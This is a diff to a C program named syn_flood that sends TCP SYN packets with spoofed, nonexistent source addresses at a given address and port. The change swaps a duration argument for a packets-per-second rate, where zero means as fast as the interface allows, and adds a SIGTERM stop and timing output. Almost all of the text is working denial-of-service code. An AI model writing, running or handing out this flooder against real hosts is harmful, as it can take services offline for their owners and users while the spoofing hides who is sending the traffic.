@@ -1,9 +1,10 @@
 /*
- * SYNs from senders that do not exist, as fast as the interface takes them, with right checksums:
+ * SYNs from senders that do not exist, with right checksums, until SIGTERM:
  *
- *   syn_flood INTERFACE ADDRESS PORT SECONDS
+ *   syn_flood INTERFACE ADDRESS PORT RATE
  *
- * Half come from the network of the address, half from anywhere. Says how many went.
+ * RATE a second, or with 0 as fast as the interface takes them. Half come from the network of the address, half from anywhere. Says how
+ * many went, and in how many milliseconds.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -12,6 +13,7 @@
 #include <net/if.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -74,6 +76,15 @@ static void find(const char *address, uint8_t *mac) {
         fclose(table);
 }
 
+static volatile sig_atomic_t is_over;
+static void stop(int number) { is_over = number; }
+
+static double now(void) {
+    struct timespec time;
+    clock_gettime(CLOCK_MONOTONIC, &time);
+    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
+}
+
 int main(int count, char **words) {
     struct in_addr to;
     if (count != 5 || !inet_aton(words[2], &to))
@@ -96,13 +107,20 @@ int main(int count, char **words) {
         pieces[n] = (struct iovec){&frames[n], sizeof frames[n]};
         messages[n].msg_hdr = (struct msghdr){.msg_iov = &pieces[n], .msg_iovlen = 1};
     }
-    unsigned long sent = 0;
-    for (time_t end = time(NULL) + atoi(words[4]); time(NULL) < end;) {
+    signal(SIGTERM, stop);
+    unsigned long sent = 0, rate = strtoul(words[4], NULL, 10);
+    double began = now();
+    while (!is_over) {
+        double due = rate ? began + (double)sent / (double)rate : 0, left = due - now();
+        if (left > 0) {
+            struct timespec pause = {0, (long)(left * 1e9)};
+            nanosleep(&pause, NULL);
+        }
         for (int n = 0; n < BATCH; n++)
             fill(&frames[n], to, (uint16_t)atoi(words[3]));
         int went = sendmmsg(fd, messages, BATCH, 0);
         sent += went > 0 ? (unsigned long)went : 0;
     }
-    printf("%lu sent\n", sent);
+    printf("%lu sent in %.0f ms\n", sent, (now() - began) * 1e3);
     return 0;
 }
